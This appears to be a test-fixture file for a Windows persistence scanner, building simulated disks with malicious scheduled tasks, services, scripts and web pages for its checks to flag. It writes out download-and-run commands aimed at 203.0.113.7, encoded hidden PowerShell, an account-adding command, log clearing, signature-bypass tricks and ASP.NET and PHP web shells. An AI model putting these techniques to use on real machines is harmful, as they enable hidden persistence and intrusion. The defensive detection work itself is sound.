"""Scheduled tasks and services that carry a payload."""
from windows_disk import *

change = Changes()
CHECK, AUTOSTARTS = 'WIN-PERSIST-003', 'WIN-PERSIST-001'
EVIL, LIBRARY = r'C:\ProgramData\x\x.exe', r'C:\ProgramData\x\x.dll'
CLASS = '{DEADBEEF-1111-2222-3333-444455556666}'
POWERSHELL = r'WindowsPowerShell\v1.0\powershell.exe'


def task(name, why, place, *action, programs=(), payload=None, files=(), honest=(), path=r'\Update', **more):
    def make(d):
        d.windows(*programs)
        for signed_program in honest:
            d.honest(signed_program)
        if payload:
            d.foreign(payload)
        for file, data in files:
            d.put(file, data)
        d.task(path, *action, **more)
    change.row(name, why, CHECK, place, make)


task('unsigned-program-of-a-task', 'The task scheduler starts it with the system.', 'x.exe', EVIL, payload=EVIL)
task('encoded-powershell-of-a-task', 'PowerShell takes a dash of Unicode for one of its options.', 'Update', 'powershell.exe', '-w hidden \u2013enc SQBFAFgA',
     programs=[POWERSHELL])
task('file-of-powershell', 'A script of nobody\'s, run by a signed program.', 'a.ps1', 'powershell.exe', r'-ep bypass -File C:\ProgramData\x\a.ps1', programs=[POWERSHELL],
     files=[(r'ProgramData\x\a.ps1', '&("ie"+"x") (iwr http://203.0.113.7/a)')])
task('registration-of-a-task', 'regsvr32.exe calls DllRegisterServer of any library.', 'x.dll', 'regsvr32.exe', f'/s {LIBRARY}', programs=['regsvr32.exe'], payload=LIBRARY)
task('library-behind-a-switch-of-rundll32', 'rundll32.exe takes /d before the library.', 'x.dll', 'rundll32.exe', f'/d {LIBRARY},Go', programs=['rundll32.exe'], payload=LIBRARY)
task('library-of-a-task', 'rundll32.exe calls a function of any library.', 'x.dll', 'rundll32.exe', f'{LIBRARY},Go', programs=['rundll32.exe'], payload=LIBRARY)
task('shell-of-a-task', 'cmd.exe runs both commands.', 'x.exe', 'cmd.exe', f'/c echo & {EVIL}', programs=['cmd.exe'], payload=EVIL)
task('page-of-a-task', 'mshta.exe runs the scripts of a page.', 'mshta', 'mshta.exe', 'http://203.0.113.7/x.hta', programs=['mshta.exe'])
task('script-of-a-task', 'wscript.exe runs the script.', 'x.vbs', 'wscript.exe', r'C:\ProgramData\x\x.vbs', programs=['wscript.exe'], files=[(r'ProgramData\x\x.vbs', 'x = 1')])
task('fetching-task', 'bitsadmin.exe fetches a file and runs a command behind it.', 'bitsadmin', 'bitsadmin.exe', r'/transfer x http://203.0.113.7/x C:\x.exe',
     programs=['bitsadmin.exe'])
task('task-among-those-of-windows', 'A task of a name like Windows\' own, hidden by its index.', 'x.exe', EVIL, payload=EVIL,
     path=r'\Microsoft\Windows\Clip\LicenseValidation2', index=0)
task('task-without-a-descriptor', 'schtasks and the console don\'t show a task without SD.', 'Update', r'C:\Windows\System32\svchost.exe', security=False)
task('task-of-the-registry-alone', 'The scheduler takes tasks from the registry; the file is for show.', 'x.exe', EVIL, payload=EVIL, file=False)
task('task-with-another-file', 'The scheduler takes the registry\'s action, and who looks at the file sees another.', 'x.exe', EVIL, payload=EVIL,
     in_file=r'C:\Windows\System32\svchost.exe')
task('program-of-the-users-folder', 'A folder that users may write to.', 'x.exe', r'C:\Users\Public\x.exe', payload=r'C:\Users\Public\x.exe')

for name, why, program, words in (
        ('address-given-back-by-a-task', 'Without an address no agent reaches anybody.', 'ipconfig.exe', '/release'),
        ('tunnel-by-a-task', 'rasdial dials an entry of the phone book.', 'rasdial.exe', 'Corp user Passw0rd'),
        ('sleep-by-a-task', 'The machine goes to sleep after a minute.', 'powercfg.exe', '/change standby-timeout-ac 1'),
        ('listener-removed-by-a-task', 'reset session deletes a session or a listener.', 'reset.exe', 'session rdp-tcp'),
        ('programs-ended-by-a-task', 'tskill ends programs by their names.', 'tskill.exe', 'python /a'),
        ('disks-of-another-by-a-task', 'iscsicli logs on to a target.', 'iscsicli.exe', 'QLoginTarget iqn-x'),
        ('restart-by-a-task', 'What harms nobody once takes the machine away at each start.', 'shutdown.exe', '/r /t 0'),
        ('log-cleared-by-a-task', 'A log that is cleared again and again tells nothing.', 'wevtutil.exe', 'cl system'),
        ('accounts-locked-by-a-task', 'After one wrong password nobody gets in, and it is set again and again.', 'net.exe', 'accounts /lockoutthreshold:1'),
        ('page-exported-by-a-task', 'reg.exe writes a page into the start-up folder.', 'reg.exe',
         r'export HKLM\SOFTWARE\kit "C:\ProgramData\Microsoft\Windows\Start Menu\Programs\Startup\x.hta" /y'),
        ('command-behind-an-option-of-powershell', 'The command stands behind an option with a value.', POWERSHELL,
         r'-OutputFormat Text -c "net user hax P@ss.2024 /add #" C:\none.ps1')):
    task(name, why, 'Update', rf'%windir%\System32\{program}', words, programs=[program])

# Programs of Windows that do what their words say: each is signed, and what it does is nobody's.
for name, why, command in (
        ('plugin-by-dnscmd', 'dnscmd.exe makes the DNS server load a library.', rf'dnscmd.exe . /config /serverlevelplugindll {LIBRARY}'),
        ('driver-by-printui', 'printui.dll installs the driver of a printer.', r'rundll32.exe printui.dll,PrintUIEntry /ia /m "x" /f C:\ProgramData\x\x.inf'),
        ('authority-by-cryptext', 'cryptext.dll adds a certificate to the roots of the machine.', 'rundll32.exe cryptext.dll,CryptExtAddCERMachineOnlyAndHwnd MIIBIjANBgkqhkiG9w0BAQE'),
        ('screen-saver-by-desk-cpl', 'desk.cpl starts a screen saver.', r'rundll32.exe desk.cpl,InstallScreenSaver C:\ProgramData\x\x.scr'),
        ('library-by-ssh-keygen', 'ssh-keygen.exe -D loads a library.', r'ssh-keygen.exe -D C:\ProgramData\x\x.txt'),
        ('join-by-djoin', 'djoin.exe joins the machine to a domain by a file.', r'djoin.exe /requestODJ /loadfile C:\ProgramData\x\x.txt /windowspath %SystemRoot% /localos'),
        ('package-by-iexpress', 'iexpress.exe runs what its directive says.', r'iexpress.exe /n /q C:\ProgramData\x\x.sed'),
        ('line-by-wt', 'wt.exe runs the line that follows.', 'wt.exe -d . powershell -c calc'),
        ('help-by-msra', 'msra.exe opens an invitation of anybody.', r'msra.exe /openfile C:\ProgramData\x\x.msrcincident'),
        ('tool-nobody-has-heard-of', 'What a program of Windows does with a file is known where its manual was read.', r'lpremove.exe C:\ProgramData\x\x.txt'),
        ('session-by-tscon', 'tscon.exe gives the session of somebody to another.', 'tscon.exe 1 /dest:console')):
    program, _, words = command.partition(' ')
    task(name, why, 'Update', program, words, programs=[program])


@change(CHECK, 'workfolders')
def control_by_the_folder_of_a_task(d):
    """WorkFolders.exe starts the control.exe of the folder that it runs in."""
    d.windows('WorkFolders.exe')
    d.foreign(r'C:\ProgramData\x\control.exe')
    d.task(r'\Update', 'WorkFolders.exe', folder=r'C:\ProgramData\x')


@change(CHECK, 'msbuild')
def project_by_the_folder_of_a_task(d):
    """MSBuild.exe without a file builds the project of the folder that it runs in."""
    build = d.honest(r'C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe')
    d.put(r'ProgramData\x\x.proj', '<Project/>')
    d.task(r'\Update', build, '/nologo', folder=r'C:\ProgramData\x')


@change(CHECK, 'NODE_OPTIONS')
def variable_of_node_in_a_line(d):
    """A line that gives NODE_OPTIONS a value loads what that names."""
    d.windows('cmd.exe')
    node = d.honest(r'C:\Program Files\nodejs\node.exe')
    d.task(r'\Update', 'cmd.exe', rf'/c set NODE_OPTIONS=--require=C:/ProgramData/x/x.js&& "{node}"')


@change(CHECK, '--require')
def module_in_one_word_of_node(d):
    """node.exe takes the module that it loads first in one word with the option."""
    d.task(r'\Update', d.honest(r'C:\Program Files\nodejs\node.exe'), '--require=C:/ProgramData/x/x.js')


def in_code_page(name, why, head, page):
    """A script whose bytes name a program of code page 936."""
    program_of_it = r'C:\ProgramData\备份\x.exe'
    def make(d):
        d.windows('cmd.exe')
        d.foreign(program_of_it)
        d.system(rf'{CONTROL}\Nls\CodePage', 'OEMCP', SZ, page)
        d.put(r'ProgramData\x\a.bat', (head + program_of_it + '\r\n').encode('gbk'))
        d.task(r'\Update', r'C:\ProgramData\x\a.bat')
    change.row(name, why, CHECK, 'Actions', make)


in_code_page('program-in-the-code-page-of-the-system', 'cmd.exe reads scripts in the code page of consoles.', '', '936')
in_code_page('program-in-a-code-page-of-its-own', 'chcp sets the code page for the rest of the script.', '@echo off\r\nchcp 936\r\n', '437')
in_code_page('program-behind-a-second-code-page', 'What two pages read can\'t be told.', 'chcp 437\r\nchcp 936\r\n', '437')
task('defender-that-fetches', 'MpCmdRun.exe fetches a file.', 'Update', r'C:\Program Files\Windows Defender\MpCmdRun.exe', r'-DownloadFile -url http://203.0.113.7/a -path C:\x.exe',
     honest=[r'C:\Program Files\Windows Defender\MpCmdRun.exe'])


@change(CHECK, 'MpClient.dll')
def library_beside_defender(d):
    """A copy of MpCmdRun.exe loads MpClient.dll from its own folder."""
    d.honest(r'C:\ProgramData\x\MpCmdRun.exe')
    d.foreign(r'C:\ProgramData\x\MpClient.dll')
    d.task(r'\Microsoft\Windows\Windows Defender\Windows Defender Cleanup', r'C:\ProgramData\x\MpCmdRun.exe', '-IdleTask -TaskName WdCleanup')


@change(CHECK, 'x.dll')
def handler_of_a_task(d):
    """A task may name a class: its library is loaded into taskhostw.exe."""
    d.com(CLASS, d.foreign(LIBRARY))
    d.task(r'\Update', handler=CLASS)


@change(CHECK, 'x.dll')
def handler_of_another_view(d):
    """The class is registered for programs of 32 bits alone."""
    d.com(CLASS, d.foreign(LIBRARY), classes=r'Classes\Wow6432Node\CLSID')
    d.task(r'\Update', handler=CLASS)


@change(CHECK, 'x.exe')
def handler_in_a_program(d):
    """A class may be served by a program."""
    d.software(rf'Classes\CLSID\{CLASS}\LocalServer32', '', SZ, d.foreign(EVIL))
    d.task(r'\Update', handler=CLASS)


@change(CHECK, 'x.exe')
def variable_in_a_task(d):
    """Variables of the machine are put into the command."""
    d.foreign(r'C:\ProgramData\kit\x.exe')
    d.system(rf'{SESSION}\Environment', 'kit', SZ, r'C:\ProgramData\kit')
    d.task(r'\Update', r'%kit%\x.exe')


# --- services ---
def service(name, why, place, image, payload=None, more=None, kind=0x10):
    def make(d):
        if payload:
            d.foreign(payload)
        d.service('Update', image, kind=kind)
        if more:
            more(d)
    change.row(name, why, CHECK, place, make)


def parameters(d, **values):
    for entry, text in values.items():
        d.system(rf'{SERVICES}\Update\Parameters', entry, EXPAND, text)


SVCHOST = r'%SystemRoot%\System32\svchost.exe -k netsvcs'
service('unsigned-program-of-a-service', 'The service manager starts it with the system.', 'x.exe', EVIL, EVIL)
service('variable-in-a-service', 'Variables of the machine are put into the path.', 'x.exe', r'%kit%\x.exe', r'C:\Windows\Temp\x.exe',
        lambda d: d.system(rf'{SESSION}\Environment', 'kit', SZ, r'C:\Windows\Temp'))
service('service-by-globalroot', 'GLOBALROOT leads to the root of all objects.', 'Update', r'\\?\GLOBALROOT\SystemRoot\Temp\x.exe', r'C:\Windows\Temp\x.exe')
service('library-of-a-service', 'svchost.exe loads ServiceDll.', 'x.dll', SVCHOST, LIBRARY, lambda d: parameters(d, ServiceDll=LIBRARY), kind=0x20)
service('shell-of-a-service', 'A service need not answer: its command has run.', 'Update', r'C:\Windows\System32\cmd.exe /c powershell -enc SQBFAFgA',
        more=lambda d: d.windows('cmd.exe', POWERSHELL))
service('failing-service', 'FailureCommand is run where the service fails.', 'FailureCommand', r'C:\Windows\System32\svchost.exe',
        more=lambda d: d.system(rf'{SERVICES}\Update', 'FailureCommand', SZ, d.foreign(EVIL)))
service('wrapped-program', 'A signed wrapper starts what its parameters name.', 'x.exe', r'"C:\Program Files\App\nssm.exe"', EVIL,
        lambda d: (d.honest(r'C:\Program Files\App\nssm.exe'), parameters(d, Application=EVIL)))
change.row('counters-of-a-service', 'Who reads performance counters loads Library.', AUTOSTARTS, 'x.dll', lambda d: (
    d.foreign(LIBRARY), d.system(rf'{SERVICES}\Tcpip\Performance', 'Library', EXPAND, LIBRARY), d.system(rf'{SERVICES}\Tcpip\Performance', 'Open', SZ, 'Open')))


@change(CHECK, 'x.exe')
def disabled_but_for_an_override(d):
    """StartOverride replaces Start: a service that is switched off starts all the same."""
    d.service('Update', d.foreign(EVIL), start=4)
    d.system(rf'{SERVICES}\Update\StartOverride', '0', DWORD, 2)


@change(CHECK, 'x.exe')
def disabled_until_the_first_start(d):
    """Setup gives services the values of FirstBoot\\Services when a copy first starts."""
    d.service('Update', d.foreign(EVIL), start=4)
    d.system(r'Setup\FirstBoot\Services\Update', 'Start', DWORD, 2)


service('library-of-a-volume-by-its-name', 'BootPartition is a name of the kernel\'s for the volume that started.', 'BootPartition', SVCHOST,
        more=lambda d: parameters(d, ServiceDll=r'\??\BootPartition\ProgramData\x\x.dll'), kind=0x20)
service('manifest-of-a-service', 'svchost.exe takes the libraries of the service from its manifest.', 'x.manifest', SVCHOST,
        more=lambda d: parameters(d, ServiceManifest=d.put(r'C:\ProgramData\x\x.manifest', '<assembly/>')), kind=0x20)
change.row('plugin-of-the-name-server', 'The DNS server loads ServerLevelPluginDll.', AUTOSTARTS, 'x.dll',
           lambda d: d.system(rf'{SERVICES}\DNS\Parameters', 'ServerLevelPluginDll', SZ, d.foreign(LIBRARY)))
change.row('svchost-replaced', 'Every service of svchost.exe runs in it.', CHECK, 'svchost.exe', lambda d: d.foreign(r'C:\Windows\System32\svchost.exe'))


@change(CHECK, 'x.exe')
def job_of_the_first_scheduler(d):
    """Windows Server 2008 R2 runs the jobs of C:\\Windows\\Tasks beside its tasks (MS-TSCH 2.4)."""
    d.foreign(EVIL)
    texts = b''.join(struct.pack('<H', len(t) + 1) + wide(t) for t in (EVIL, '', '', 'x', ''))
    d.put(r'Windows\Tasks\x.job', struct.pack('<HH16sHH', 0x601, 1, bytes(16), 70, 0).ljust(70, b'\0') + texts)

# Scripts that somebody vouches for: their bytes are, and what they are told is not.
SYSTEM, APP = r'C:\Windows\System32', r'C:\Program Files\My App'
SCRIPTING = ['cscript.exe', 'wscript.exe', 'cmd.exe', POWERSHELL]


def told(name, why, place, command, *scripts, payload=None, **more):
    """A task whose script is a fixture, at a place; catalogs list those of the name."""
    def make(d):
        d.windows(*SCRIPTING)
        if payload:
            d.foreign(payload)
        for source, path, change_of in scripts:
            data = script(source)
            assert change_of is None or change_of[0] in data
            if source.startswith('listed'):
                d.listed(source, path)
            d.put(path, data.replace(*change_of, 1) if change_of else data)
        program, _, words = command.partition(' ')
        d.task(r'\Update', program, words, **more)
    change.row(name, why, CHECK, place, make)


HOST, TIDY = rf'{SYSTEM}\cscript.exe', rf'{APP}\tidy.ps1'
FILE = rf'{SYSTEM}\{POWERSHELL} -ExecutionPolicy AllSigned -File "{TIDY}"'
told('signed-script-that-was-changed', 'The bytes are not those that were signed.', 'tidy.ps1', FILE, ('ascii.ps1', TIDY, (b'plain', b'plane')))
told('line-behind-a-signature', 'PowerShell runs what stands behind the block, which no signature covers.', 'tidy.ps1', FILE,
     ('ascii.ps1', TIDY, (b'# SIG # End signature block\r\n', b'# SIG # End signature block\r\ncalc\r\n')))
told('line-inside-of-a-signature', 'PowerShell runs a line of the block that is no comment.', 'tidy.ps1', FILE,
     ('ascii.ps1', TIDY, (b'# SIG # End', b'calc\r\n# SIG # End')))
told('script-that-a-stranger-signed', 'The certificate is of nobody whom anybody knows.', 'tidy.ps1', FILE, ('stranger.ps1', TIDY, None))
told('signature-of-another-kind-of-script', 'The Script Host takes no signature of PowerShell.', 'tidy.vbs', rf'{HOST} "{APP}\tidy.vbs"', ('ascii.ps1', rf'{APP}\tidy.vbs', None))
told('listed-script-that-was-changed', 'The catalog lists other bytes.', 'gather.vbs', rf'{HOST} //b {SYSTEM}\gather.vbs', ('listed.vbs', rf'{SYSTEM}\gather.vbs', (b'all', b'one')))
PUBLISHING = ('listed.vbs', rf'{SYSTEM}\SyncAppvPublishingServer.vbs', None)
told('command-for-a-script-of-windows', 'SyncAppvPublishingServer.vbs hands its argument to PowerShell.', 'Start-Process', rf'{SYSTEM}\wscript.exe {PUBLISHING[1]} "n;Start-Process {EVIL}"', PUBLISHING)
told('blanks-for-a-script-of-windows', 'Words in quotation marks are one argument, and PowerShell reads a command.', 'SyncAppv', rf'{SYSTEM}\wscript.exe /b {PUBLISHING[1]} "n calc"', PUBLISHING)
told('stylesheet-of-the-working-folder', 'winrm.vbs carries out WsmPty.xsl for -format:pretty.', 'format:pretty', rf'{HOST} //nologo {SYSTEM}\winrm.vbs get wmicimv2/Win32_Process -format:pretty',
     ('listed.vbs', rf'{SYSTEM}\winrm.vbs', None), folder=r'C:\ProgramData\x')
told('server-for-a-script-of-windows', 'Another server than Windows\' own answers.', 'slmgr.vbs', rf'{HOST} //b {SYSTEM}\slmgr.vbs /skms 203.0.113.7', ('listed.vbs', rf'{SYSTEM}\slmgr.vbs', None))
told('engine-of-a-script', 'An engine is a class of COM, and gets the text of the script.', 'MyEngine', rf'{HOST} /b /E:MyEngine {SYSTEM}\gather.vbs', ('listed.vbs', rf'{SYSTEM}\gather.vbs', None))
told('word-before-a-script', 'The hosts have no such switch.', '/run', rf'{HOST} /run {SYSTEM}\gather.vbs', ('listed.vbs', rf'{SYSTEM}\gather.vbs', None))
told('command-for-a-listed-batch-file', 'The batch file carries out its parameters, which the task gives.', 'it carries out what the command itself says', rf'{SYSTEM}\cmd.exe /c {SYSTEM}\run.cmd Start-Process {EVIL}',
     ('listed.told.cmd', rf'{SYSTEM}\run.cmd', None))
told('folder-for-a-listed-batch-file', 'Code without a folder acts on that which the task names.', 'Publish-Things', rf'{SYSTEM}\cmd.exe /c {SYSTEM}\silcollector.cmd publish',
     ('listed.cmd', rf'{SYSTEM}\silcollector.cmd', None), folder=r'C:\ProgramData\x')
told('program-for-a-signed-script', 'A script may start what it is told of.', 'x.exe', rf'{FILE} -Program {EVIL}', ('ascii.ps1', TIDY, None), payload=EVIL)


# --- pages that run for whoever asks ---
WEB = r'%windir%\system32\svchost.exe -k iissvcs'


def site(d, config=None):
    """The web server as it is installed."""
    d.windows(r'inetsrv\iisw3adm.dll')
    d.service('W3SVC', WEB, 2, 0x20)
    d.system(rf'{SERVICES}\W3SVC\Parameters', 'ServiceDll', EXPAND, r'%windir%\system32\inetsrv\iisw3adm.dll')
    if config:
        d.put(r'Windows\System32\inetsrv\config\applicationHost.config', f'<configuration><system.applicationHost><sites><site name="d" id="1"><application path="/">'
              f'<virtualDirectory path="/" physicalPath="{config}"/></application></site></sites></system.applicationHost></configuration>')


def page(name, why, path, text, config=None, place=None):
    change.row(name, why, 'WIN-PERSIST-001', place or path.rpartition('\\')[2], lambda d: (site(d, config), d.put(path, text)))


page('page-that-runs-commands', 'A page of ASP.NET runs for whoever asks for it.', r'inetpub\wwwroot\x.aspx', '<%@ Page Language="C#"%><%System.Diagnostics.Process.Start("cmd.exe","/c "+Request["c"]);%>')
page('page-of-another-folder', 'physicalPath says where the site is.', r'www\a\x.php', '<?php eval($_POST["c"]);', r'%SystemDrive%\www')
page('picture-that-is-a-page', 'A handler gives pictures to an interpreter.', r'inetpub\wwwroot\img\web.config', '<configuration><system.webServer><handlers>'
     r'<add name="x" path="*.jpg" verb="*" scriptProcessor="C:\php\php-cgi.exe"/></handlers></system.webServer></configuration>', place='web.config')

# --- a tunnel that waits for its profile ---
OPENVPN = r'C:\Program Files\OpenVPN'


def openvpn(d):
    """OpenVPN as its installer leaves it."""
    for name in ('openvpn', 'openvpnserv', 'openvpnserv2', 'openvpn-gui'):
        d.honest(rf'{OPENVPN}\bin\{name}.exe')
    d.software('OpenVPN', 'config_dir', SZ, rf'{OPENVPN}\config')
    d.service('OpenVPNServiceInteractive', rf'"{OPENVPN}\bin\openvpnserv.exe"')
    d.service('OpenVPNService', rf'"{OPENVPN}\bin\openvpnserv2.exe"', 3)


change.row('tunnel-with-its-profile', 'The service opens each profile of the folder.', 'WIN-PERSIST-003', 'OpenVPNServiceInteractive', lambda d: (
    openvpn(d), d.put(rf'{OPENVPN}\config-auto\corp.ovpn', 'client\nremote 203.0.113.9 1194\n')))
